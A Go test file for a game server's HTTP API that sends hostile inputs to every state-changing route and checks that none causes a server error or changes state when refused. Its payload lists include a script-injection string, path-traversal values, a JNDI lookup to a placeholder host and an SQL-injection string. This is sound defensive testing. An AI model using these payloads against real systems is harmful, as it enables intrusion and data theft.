package httpapi_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/pbmgames/pbm/functions/internal/httpapi"
	"github.com/pbmgames/pbm/functions/internal/leagues"
	"github.com/pbmgames/pbm/functions/internal/service"
	"github.com/pbmgames/pbm/functions/internal/servicetest"
	"github.com/pbmgames/pbm/infra/linksign"
)

// The hostile-input suite (issue 25): every route that changes anything
// is sent its request with each field replaced by each hostile value —
// text that is not text, invisible and direction-turning characters,
// markup, huge and negative numbers, values of the wrong type — and with
// bodies, tokens and ids that are wrong as a whole. No answer may be a
// 5xx, and every refusal (4xx) must leave the world as it was.

// hostileJSON are values put in place of one field of a JSON body, as
// raw JSON: strings that are not text (bytes that are not UTF-8, lone
// surrogates), control, invisible and direction-turning characters,
// markup and injections, a string far too long, numbers out of any
// range, and values of the wrong type.
var hostileJSON = []string{
	`""`, `"\u0000"`, "\"\xff\xfe\"", `"\ud800"`, `"\udc00\ud800"`, `"<script>alert(1)</script>"`, `"\u202egnp.exe"`,
	`"a\u200bb"`, `"\u00ad"`, `"../../etc/passwd"`, `"${jndi:ldap://x.example/a}"`, `"' OR 1=1 --"`,
	`"` + strings.Repeat("ж", 5000) + `"`, `-1`, `0`, `9223372036854775807`, `-9223372036854775808`, `1e308`, `1.5`,
	`99999999999999999999999`, `null`, `true`, `[]`, `{}`, `"1"`, `[[[[[[[[[[]]]]]]]]]]`,
}

// hostileForm are values put in place of one field of a form.
var hostileForm = []string{
	"", "\x00", "\xff\xfe", "<script>alert(1)</script>", "\u202egnp.exe", "a\u200bb", "../../etc/passwd", "' OR 1=1 --",
	strings.Repeat("ж", 5000), "-1", "0", "9223372036854775808", "1e308", "1.5", "NaN",
}

// hostileBodies are whole JSON bodies that are wrong.
var hostileBodies = []string{"", "null", "[]", "{", `{"unknown_field":1}`, `{} {}`, "\xef\xbb\xbf{}", strings.Repeat("[", 10000),
	`{"a":"` + strings.Repeat("x", 70<<10) + `"}`}

// hostileIDs replace the id in a route's path.
var hostileIDs = []string{"x", strings.Repeat("a", 300), "%E2%80%AE", "..%2F..%2Fetc", "%00"}

// hostileWorld is a deployment (leagues, talk, sign-in, the notifier)
// with a game in play, one invited, one waiting for its organiser's
// confirmation, a league with members, and a player signed in.
type hostileWorld struct {
	*leagueWorld
	play, invited, unconfirmed, league string
	tok                                map[string]string // the world's tokens by name
	record                             []byte
	emails                             []string
}

func newHostileWorld(t *testing.T) *hostileWorld {
	w := &hostileWorld{leagueWorld: newWorldLimits(t, servicetest.Roomy), tok: map[string]string{}}
	svc, lg, ctx := w.app.Service, w.app.Leagues, t.Context()
	sign := func(name string, p linksign.Purpose, id string, seat int) {
		tok, err := svc.Token(p, id, seat, 0, time.Hour)
		if err != nil {
			t.Fatal(err)
		}
		w.tok[name] = tok
	}
	seats := []service.Person{{Name: "A", Email: "a@example.org"}, {Name: "B", Email: "b@example.org"}, {Name: "C", Email: "c@example.org"}}
	w.emails = []string{"a@example.org", "b@example.org", "c@example.org", "org@example.org"}
	c := servicetest.Create(t, svc, service.CreateRequest{Kind: "western", Options: []byte(`{"laps":2}`), Organiser: service.Person{Email: "org@example.org"}, Seats: seats})
	for i := range seats {
		if _, err := svc.Accept(ctx, c.ID, i); err != nil {
			t.Fatal(err)
		}
	}
	w.play = c.ID
	for i := range seats {
		sign(fmt.Sprintf("seat%d", i), linksign.PurposeSeat, c.ID, i)
	}
	sign("org", linksign.PurposeOrganiser, c.ID, linksign.NoSeat)
	sign("view", linksign.PurposeSpectator, c.ID, linksign.NoSeat)
	inv := servicetest.Create(t, svc, service.CreateRequest{Kind: "businessman", Organiser: service.Person{Email: "org@example.org"}, Seats: seats[:2]})
	w.invited = inv.ID
	sign("invite", linksign.PurposeInvite, inv.ID, 0)
	sign("org-invited", linksign.PurposeOrganiser, inv.ID, linksign.NoSeat)
	un, err := svc.Create(ctx, service.CreateRequest{Kind: "western", Organiser: service.Person{Email: "new-org@example.org"}, Seats: seats[1:]})
	if err != nil || !un.Unconfirmed {
		t.Fatalf("unconfirmed game: %+v %v", un, err)
	}
	w.unconfirmed = un.ID
	sign("confirm", linksign.PurposeConfirm, un.ID, linksign.NoSeat)

	l, err := lg.Create(ctx, leagues.CreateRequest{Name: "Клуб", Kind: "western", TableSize: 2, Rounds: 1, Divisions: 1,
		Organiser: service.Person{Name: "Org", Email: "org@example.org"}})
	if err != nil {
		t.Fatal(err)
	}
	servicetest.ConfirmLeague(t, lg, l.ID)
	for i, p := range seats {
		servicetest.Join(t, lg, l.ID, leagues.Member{Name: fmt.Sprintf("M%d", i), Email: p.Email})
	}
	w.league = l.ID
	sign("league-org", linksign.PurposeLeagueOrganiser, l.ID, linksign.NoSeat)
	sign("league-invite", linksign.PurposeLeagueInvite, l.ID, linksign.NoSeat)
	sign("league-member", linksign.PurposeLeagueMember, l.ID, 0)
	sign("league-confirm", linksign.PurposeLeagueConfirm, l.ID, 0)

	signin, _, ok, err := svc.IssueSignIn(ctx, "a@example.org")
	if err != nil || !ok {
		t.Fatalf("sign-in link: %v %v", ok, err)
	}
	w.tok["signin"] = signin
	if w.tok["session"], err = svc.OpenSignIn(ctx, signin); err != nil {
		t.Fatal(err)
	}
	if w.tok["signin"], _, _, err = svc.IssueSignIn(ctx, "a@example.org"); err != nil {
		t.Fatal(err)
	}
	p, err := svc.Prefs(ctx, "a@example.org")
	if err != nil {
		t.Fatal(err)
	}
	if w.tok["unsub"], err = svc.PlayerToken(ctx, p, linksign.PurposeUnsubscribe); err != nil {
		t.Fatal(err)
	}
	if w.record, err = os.ReadFile(recordSeedPath("western")); err != nil {
		t.Fatal(err)
	}
	return w
}

// state is what a refusal must leave as it was: the games' versions,
// the game's table talk, the league's items, the players.
func (w *hostileWorld) state(t *testing.T) string {
	ctx := t.Context()
	var b strings.Builder
	for _, id := range []string{w.play, w.invited, w.unconfirmed} {
		g, err := w.st.GetGame(ctx, id)
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(&b, "game %s v%d\n", id, g.Version)
	}
	talk, err := w.st.TalkAfter(ctx, w.play, "", 10000)
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range talk {
		fmt.Fprintf(&b, "talk %s %v\n", m.Key, m.Hidden)
	}
	items, err := w.st.LeagueItems(ctx, w.league, "")
	if err != nil {
		t.Fatal(err)
	}
	for _, it := range items {
		fmt.Fprintf(&b, "league %s v%d\n", it.Key, it.Version)
	}
	for _, e := range w.emails {
		p, err := w.st.GetPlayer(ctx, e)
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(&b, "player %s %v %s %s %s\n", e, p.Unsubscribed, p.Lang, p.Mail, p.TimeZone)
	}
	return b.String()
}

// hostileRequest is one route's request as the suite sends it: its
// token goes as the bearer of an /api/ route, else as the form's "t".
type hostileRequest struct {
	method, path, token string
	json                map[string]any // a JSON body (nil: none)
	form                url.Values     // a form
	multipart           []byte         // POST /records: the file
}

// hostileRoutes are the state-changing routes with a request each that
// the world would take (or refuse for a reason of its own).
func (w *hostileWorld) hostileRoutes() map[string]hostileRequest {
	g, inv, un, l, tk := w.play, w.invited, w.unconfirmed, w.league, w.tok
	person := map[string]any{"name": "Dan", "email": "dan@example.org", "lang": "en"}
	create := map[string]any{"kind": "western", "name": "Game", "options": map[string]any{"laps": 2}, "deadline_hours": 48, "key": "hostile-key-1",
		"organiser": map[string]any{"name": "Org", "email": "org@example.org"}, "seats": []any{person, map[string]any{"name": "Eve", "email": "eve@example.org"}}}
	act := map[string]any{"action": map[string]any{"type": "roll"}, "key": "hostile-move-1", "version": 1}
	return map[string]hostileRequest{
		"POST /api/games":                     {json: create},
		"POST /api/games/{id}/confirm":        {path: un, token: tk["confirm"]},
		"POST /api/games/{id}/accept":         {path: inv, token: tk["invite"]},
		"POST /api/games/{id}/start":          {path: inv, token: tk["org-invited"]},
		"POST /api/games/{id}/actions":        {path: g, token: tk["seat0"], json: act},
		"POST /api/records":                   {},
		"PUT /api/games/{id}/orders":          {path: g, token: tk["seat1"], json: map[string]any{"orders": map[string]any{"roll": 1}}},
		"POST /api/games/{id}/controls":       {path: g, token: tk["org"], json: map[string]any{"control": "extend", "hours": 2, "seat": 1, "substitute": person, "key": "hostile-ctl-1"}},
		"POST /api/games/{id}/away":           {path: g, token: tk["seat2"], json: map[string]any{"from": "2027-03-02", "until": "2027-03-04"}},
		"POST /api/games/{id}/back":           {path: g, token: tk["seat2"]},
		"POST /api/games/{id}/talk":           {path: g, token: tk["seat0"], json: map[string]any{"text": "Привет", "to": 1, "mail_each": false}},
		"POST /api/games/{id}/talk/hide":      {path: g, token: tk["org"], json: map[string]any{"key": "0000000000000000-00000000", "hidden": true}},
		"POST /api/games/{id}/deals":          {path: g, token: tk["seat1"], json: map[string]any{"offer": map[string]any{"type": "offer", "cell": 12, "target": 0}}},
		"POST /api/games/{id}/deals/withdraw": {path: g, token: tk["seat1"], json: map[string]any{"offer": map[string]any{"type": "offer", "cell": 12, "target": 0}}},
		"POST /api/games/{id}/deals/counter":  {path: g, token: tk["seat1"], json: map[string]any{"deal": 1, "offer": map[string]any{"type": "offer", "cell": 12, "target": 0}, "key": "hostile-counter-1"}},
		"POST /g/{id}/deals":                  {path: g, token: tk["seat1"], form: url.Values{"do": {"prepare"}, "type": {"offer"}, "alt": {"12/0//"}, "deal": {"0"}, "amount": {"0"}, "key": {"hostile-form-deal"}, "offer": {"{}"}}},
		"POST /games":                         {form: url.Values{"kind": {"western"}, "key": {"hostile-form-1"}, "org_email": {"org@example.org"}, "org_name": {"Org"}, "org_lang": {"ru"}, "game_name": {"G"}, "deadline": {"48"}, "name": {"Dan", "Eve"}, "email": {"dan@example.org", "eve@example.org"}, "lang": {"ru", "en"}}},
		"POST /records":                       {},
		"POST /g/{id}/act":                    {path: g, token: tk["seat0"], form: url.Values{"type": {"roll"}, "key": {"hostile-form-move"}, "decision": {"0"}, "step": {"0"}, "amount": {"0"}, "cell": {"0"}, "target": {"0"}, "alt": {"0"}, "good": {"oil"}}},
		"POST /g/{id}/orders":                 {path: g, token: tk["seat1"], form: url.Values{"do": {"save"}, "roll": {"1"}}},
		"POST /g/{id}/accept":                 {path: inv, token: tk["invite"]},
		"POST /g/{id}/confirm":                {path: un, token: tk["confirm"]},
		"POST /g/{id}/start":                  {path: inv, token: tk["org-invited"]},
		"POST /me":                            {token: tk["session"], form: url.Values{"mail": {"digest"}, "tz": {"Europe/Moscow"}, "unsub": {""}}},
		"POST /unsubscribe":                   {token: tk["unsub"]},
		"POST /signin":                        {form: url.Values{"email": {"a@example.org"}}},
		"POST /signin/open":                   {token: tk["signin"]},
		"POST /me/links/revoke":               {token: tk["session"], form: url.Values{"link": {"mail"}}},
		"POST /me/signout":                    {token: tk["session"]},
		"POST /g/{id}/control":                {path: g, token: tk["org"], form: url.Values{"control": {"extend"}, "hours": {"2"}, "seat": {"1"}, "key": {"hostile-form-ctl"}, "sure": {"1"}, "name": {"Dan"}, "email": {"dan@example.org"}, "sub_lang": {"en"}}},
		"POST /g/{id}/away":                   {path: g, token: tk["seat2"], form: url.Values{"from": {"2027-03-02"}, "until": {"2027-03-04"}}},
		"POST /g/{id}/back":                   {path: g, token: tk["seat2"]},
		"POST /g/{id}/talk":                   {path: g, token: tk["seat0"], form: url.Values{"text": {"Привет"}, "to": {"1"}}},
		"POST /g/{id}/talk/hide":              {path: g, token: tk["org"], form: url.Values{"key": {"0000000000000000-00000000"}, "hidden": {"1"}}},
		"POST /api/leagues":                   {json: map[string]any{"name": "Лига", "kind": "western", "table_size": 2, "rounds": 1, "divisions": 1, "organiser": map[string]any{"name": "Org", "email": "org@example.org"}}},
		"POST /api/leagues/{id}/members":      {path: l, token: tk["league-invite"], json: map[string]any{"name": "Zed", "email": "zed@example.org", "lang": "en", "time_zone": "Europe/Moscow", "mail": "all"}},
		"POST /api/leagues/{id}/leave":        {path: l, token: tk["league-member"]},
		"POST /api/leagues/{id}/seasons":      {path: l, token: tk["league-org"], json: map[string]any{"start": "2099-01-01", "divisions": []any{[]any{"M0", "M1"}}}},
		"POST /api/leagues/{id}/substitutes":  {path: l, token: tk["league-org"], json: map[string]any{"member": "M0", "from_round": 1, "person": person}},
		"POST /api/leagues/{id}/confirm":      {path: l, token: tk["league-confirm"]},
		"POST /leagues":                       {form: url.Values{"name": {"Лига"}, "kind": {"western"}, "laps": {"2"}, "table_size": {"2"}, "rounds": {"1"}, "divisions": {"1"}, "deadline": {"48"}, "org_name": {"Org"}, "org_email": {"org@example.org"}, "org_lang": {"ru"}}},
		"POST /l/{id}/leave":                  {path: l, token: tk["league-member"]},
		"POST /l/{id}/join":                   {path: l, token: tk["league-invite"], form: url.Values{"name": {"Yan"}, "email": {"yan@example.org"}, "member_lang": {"ru"}, "tz": {"Europe/Moscow"}, "mail": {"all"}}},
		"POST /l/{id}/start":                  {path: l, token: tk["league-org"], form: url.Values{"start": {"2099-01-01"}}},
		"POST /l/{id}/substitute":             {path: l, token: tk["league-org"], form: url.Values{"member": {"M0"}, "from": {"1"}, "name": {"Dan"}, "email": {"dan@example.org"}, "sub_lang": {"en"}}},
		"POST /l/{id}/confirm":                {path: l, token: tk["league-confirm"]},
	}
}

// send makes the request of route, with its body as given (raw JSON,
// a form, or a record file) and its token; id replaces the path's id.
func (w *hostileWorld) send(route string, req hostileRequest, id string, raw []byte, form url.Values, token string) *httptest.ResponseRecorder {
	method, pattern, _ := strings.Cut(route, " ")
	path := strings.Replace(pattern, "{id}", id, 1)
	var r *http.Request
	switch {
	case route == "POST /records":
		var b bytes.Buffer
		mw := multipart.NewWriter(&b)
		fw, _ := mw.CreateFormFile("record", "pbm.json")
		_, _ = fw.Write(raw)
		_ = mw.Close()
		r = httptest.NewRequest(method, path, &b)
		r.Header.Set("Content-Type", mw.FormDataContentType())
	case req.form != nil || !strings.HasPrefix(path, "/api/"):
		if form == nil {
			form = url.Values{}
		}
		if token != "" {
			form.Set("t", token)
		}
		r = httptest.NewRequest(method, path, strings.NewReader(form.Encode()))
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	default:
		r = httptest.NewRequest(method, path, bytes.NewReader(raw))
		if raw != nil {
			r.Header.Set("Content-Type", "application/json")
		}
		if token != "" {
			r.Header.Set("Authorization", "Bearer "+token)
		}
	}
	r.RemoteAddr = "198.51.100.99:4000"
	rec := httptest.NewRecorder()
	w.h.ServeHTTP(rec, r)
	return rec
}

// leaves are the paths of the leaves of a JSON value.
func leaves(v any, at []any) [][]any {
	switch v := v.(type) {
	case map[string]any:
		var out [][]any
		keys := make([]string, 0, len(v))
		for k := range v {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		for _, k := range keys {
			out = append(out, leaves(v[k], append(slices.Clone(at), k))...)
		}
		return append(out, at)
	case []any:
		var out [][]any
		for i, e := range v {
			out = append(out, leaves(e, append(slices.Clone(at), i))...)
		}
		return append(out, at)
	}
	return [][]any{at}
}

// withRaw marshals v with the value at path replaced by raw JSON.
func withRaw(t *testing.T, v any, path []any, raw string) []byte {
	const mark = "\u2063HOSTILE\u2063"
	var set func(v any, path []any) any
	set = func(v any, path []any) any {
		if len(path) == 0 {
			return mark
		}
		switch c := v.(type) {
		case map[string]any:
			m := map[string]any{}
			for k, e := range c {
				m[k] = e
			}
			m[path[0].(string)] = set(c[path[0].(string)], path[1:])
			return m
		case []any:
			s := slices.Clone(c)
			s[path[0].(int)] = set(c[path[0].(int)], path[1:])
			return s
		}
		return v
	}
	b, err := json.Marshal(set(v, path))
	if err != nil {
		t.Fatal(err)
	}
	return bytes.Replace(b, []byte(`"`+mark+`"`), []byte(raw), 1)
}

// TestHostileInputOnEveryRoute (issue 25): the hostile-input suite on
// every state-changing route (every POST and PUT that httpapi serves):
// no 5xx, and a refusal changes nothing; and after it all, no name,
// address or message kept holds what is not text.
func TestHostileInputOnEveryRoute(t *testing.T) {
	w := newHostileWorld(t)
	routes := w.hostileRoutes()
	for _, r := range httpapi.Routes() {
		if r.Method == "POST" || r.Method == "PUT" {
			if _, ok := routes[r.Method+" "+r.Pattern]; !ok {
				t.Errorf("%s %s changes state and the hostile suite sends it nothing", r.Method, r.Pattern)
			}
		}
	}
	names := make([]string, 0, len(routes))
	for name := range routes {
		names = append(names, name)
	}
	sort.Strings(names)
	sent, refused := 0, 0
	for _, route := range names {
		req := routes[route]
		check := func(what string, id string, raw []byte, form url.Values, token string) {
			t.Helper()
			before := w.state(t)
			rec := w.send(route, req, id, raw, form, token)
			sent++
			if rec.Code >= 500 {
				t.Errorf("%s, %s: %d %.300s", route, what, rec.Code, rec.Body)
				return
			}
			if rec.Code >= 400 {
				refused++
				if after := w.state(t); after != before {
					t.Errorf("%s, %s: refused (%d) and changed the world:\n%s\nto\n%s", route, what, rec.Code, before, after)
				}
			}
		}
		body := func() []byte {
			if route == "POST /api/records" || route == "POST /records" {
				return w.record
			}
			if req.json == nil {
				return nil
			}
			b, _ := json.Marshal(req.json)
			return b
		}
		// Tokens: none, tampered, of another purpose, of another game.
		for what, token := range map[string]string{"no token": "", "a tampered token": tamperToken(req.token),
			"a spectator's token": w.tok["view"], "another game's token": w.tok["invite"]} {
			if token != req.token {
				check(what, req.path, body(), req.form, token)
			}
		}
		// Ids.
		if strings.Contains(route, "{id}") {
			for _, id := range hostileIDs {
				check("id "+id, id, body(), req.form, req.token)
			}
		}
		switch {
		case route == "POST /records" || route == "POST /api/records":
			var doc map[string]any
			if err := json.Unmarshal(w.record, &doc); err != nil {
				t.Fatal(err)
			}
			for _, p := range leaves(doc, nil) {
				if len(p) > 1 && p[0] == "commands" && p[1].(int) > 1 {
					continue // past the first commands: FuzzRecordImport's
				}
				for _, v := range hostileJSON {
					check(fmt.Sprintf("%v = %.40s", p, v), req.path, withRaw(t, doc, p, v), nil, req.token)
				}
			}
		case req.json != nil:
			for _, p := range leaves(req.json, nil) {
				for _, v := range hostileJSON {
					check(fmt.Sprintf("%v = %.40s", p, v), req.path, withRaw(t, req.json, p, v), nil, req.token)
				}
			}
		case req.form != nil:
			for field := range req.form {
				for _, v := range hostileForm {
					f := url.Values{}
					for k, vs := range req.form {
						f[k] = slices.Clone(vs)
					}
					f.Set(field, v)
					check(fmt.Sprintf("%s = %.40q", field, v), req.path, nil, f, req.token)
				}
				f := url.Values{}
				for k, vs := range req.form {
					if k != field {
						f[k] = vs
					}
				}
				check("without "+field, req.path, nil, f, req.token)
			}
		}
		if strings.HasPrefix(route, "POST /api/") || strings.HasPrefix(route, "PUT /api/") {
			for _, b := range hostileBodies {
				check(fmt.Sprintf("body %.20q", b), req.path, []byte(b), nil, req.token)
			}
		}
	}
	t.Logf("%d hostile requests to %d routes, %d refused", sent, len(routes), refused)
	// Whatever was taken is text: no U+FFFD, nothing invisible kept.
	ctx := t.Context()
	for _, id := range []string{w.play, w.invited, w.unconfirmed} {
		rec, _, err := w.app.Service.Load(ctx, id)
		if err != nil {
			t.Fatal(err)
		}
		for _, p := range append([]service.Person{rec.Organiser}, seatPeople(rec)...) {
			if !service.PlainText(p.Name+p.Email) && p.Name != "" {
				t.Errorf("game %s keeps %q <%s>", id, p.Name, p.Email)
			}
		}
	}
	talk, err := w.st.TalkAfter(ctx, w.play, "", 10000)
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range talk {
		if strings.ContainsRune(m.Text, '\ufffd') {
			t.Errorf("talk keeps %q", m.Text)
		}
	}
	l, _, err := w.app.Leagues.League(ctx, w.league)
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range l.Members {
		if !service.PlainText(m.Name + m.Email) {
			t.Errorf("the league keeps %q <%s>", m.Name, m.Email)
		}
	}
}

// seatPeople are the people invited to a game.
func seatPeople(rec *service.Record) []service.Person {
	var out []service.Person
	for _, s := range rec.Seats {
		out = append(out, s.Person)
	}
	return out
}

// tamperToken changes a token's last character ("" stays "").
func tamperToken(tok string) string {
	if tok == "" {
		return ""
	}
	last := byte('A')
	if tok[len(tok)-1] == 'A' {
		last = 'B'
	}
	return tok[:len(tok)-1] + string(last)
}
